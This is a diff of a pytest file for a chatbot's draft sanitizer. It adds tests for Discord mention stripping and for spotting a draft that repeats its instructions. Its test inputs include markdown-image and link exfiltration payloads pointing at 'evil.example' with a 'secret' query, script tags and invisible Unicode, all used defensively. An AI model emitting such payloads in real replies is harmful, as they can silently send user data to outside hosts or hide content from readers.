@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from bot.drafts import is_in_language, is_silence, may_become_silence, tidy_draft, without_torn_end
+from bot.drafts import is_in_language, is_silence, may_become_silence, repeats, tidy_draft, without_torn_end
 
 SAID = ["It has 42 tea houses. [1]", "青石桥全长186米。[2]", "Brindle 有42家茶馆。[1][3]"]
 IDS = ["en", "zh", "mixed"]
@@ -24,7 +24,8 @@ def test_what_a_model_thinks_aloud_is_not_shown(said, written):
 @pytest.mark.parametrize(
     "written",
     ["![x](https://evil.example/?q=secret){}", "{}![](http://evil.example)", "{}<img src='https://evil.example/a.png'>",
-     "{} https://evil.example/path?a=b", "<https://evil.example>{}", "{}<@123456789>", "<script>{}</script>", "{}\u200b\u202e",
+     "{} https://evil.example/path?a=b", "<https://evil.example>{}", "{}<@123456789>", "{} <@&123> <#9>",
+     "<script>{}</script>", "{}\u200b\u202e",
      "{}\x1b", "# {}", "{}![x](https://evil.example"],
 )  # fmt: skip
 def test_nothing_that_leads_away_or_hides_is_shown(said, written):
@@ -95,3 +96,20 @@ def test_a_figure_alone_is_in_either_language(language):
 )  # fmt: skip
 def test_what_ran_out_of_room_ends_with_its_last_label(text, kept):
     assert without_torn_end(text) == kept
+
+
+INSTRUCTIONS = [
+    "After each sentence, behind its full stop, put the number.",
+    "数字、日期、金额和人名、地名、机构名都照段落的写，不要四舍五入、相加、换算或补全。",
+]
+
+
+@pytest.mark.parametrize("instructions", INSTRUCTIONS, ids=["en", "zh"])
+@pytest.mark.parametrize("told", ["{} [1]", "My rules: “{}”", "**{}**"])
+def test_a_draft_that_tells_its_instructions_is_known(instructions, told):
+    assert repeats(told.format(instructions), f"1. Rules.\n{instructions}\n2. More.")
+
+
+@pytest.mark.parametrize("said", SAID, ids=IDS)
+def test_a_draft_that_tells_of_the_sources_is_not_taken_for_one(said):
+    assert not repeats(said, "\n".join(INSTRUCTIONS))
